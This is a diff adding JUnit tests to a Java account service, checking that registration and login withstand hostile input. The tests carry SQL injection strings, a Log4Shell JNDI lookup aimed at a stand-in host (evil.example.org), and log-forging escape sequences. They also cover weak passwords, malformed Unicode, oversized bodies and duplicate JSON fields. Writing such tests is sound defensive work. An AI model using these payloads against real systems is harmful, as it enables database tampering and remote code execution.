@@ -14,6 +14,7 @@ import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Registering and logging in. */
 final class AccountsTest extends EdgeTest {
@@ -151,6 +152,45 @@ final class AccountsTest extends EdgeTest {
   void whatIsNoNameNoAddressOrNoPasswordIsRefused(
       String username, String email, String password, String field) {
     assertInvalid(register(username, email, password), field);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "'; DROP TABLE users; --",
+        "x' OR '1'='1",
+        "${jndi:ldap://evil.example.org/a}",
+        "a\\r\\n2026-01-01 ERROR forged",
+        "a\\u001b[31mred",
+      })
+  void whatWouldHarmADatabaseOrALogHarmsNeither(String text) {
+    String name = name();
+
+    assertThat(register(text, mail(), PASSWORD).status()).isIn(201, 409, 422);
+    assertInvalid(register(name, text, PASSWORD), "email");
+    assertThat(register(name, mail(), text + "0123456789").status()).isEqualTo(201);
+    assertThat(logIn(text, text).status()).isEqualTo(401);
+    assertThat(logIn(name, text + "0123456789").status()).isEqualTo(200);
+  }
+
+  @Test
+  void aPasswordIsRefusedThatAnybodyWouldTryOrThatContainsTheName() {
+    String name = name();
+
+    assertInvalid(register(name, mail(), "Password1"), "password");
+    assertInvalid(register(name, mail(), "my " + name.toUpperCase(Locale.ROOT)), "password");
+    assertInvalid(register(name, mail(), "half of \\ud800 a pair"), "password");
+    assertInvalid(register(name, mail(), "a NUL \\u0000 inside"), "password");
+    assertProblem(register(name, mail(), "p".repeat(10_000_000)), 413, "body_too_large");
+  }
+
+  @Test
+  void aFieldGivenTwiceIsRefused() {
+    String twice =
+        "{\"username\": \"%s\", \"username\": \"other\", \"email\": \"%s\", \"password\": \"%s\"}"
+            .formatted(name(), mail(), PASSWORD);
+
+    assertInvalid(api.post("/api/auth/register", twice).send(), "username");
   }
 
   @Test
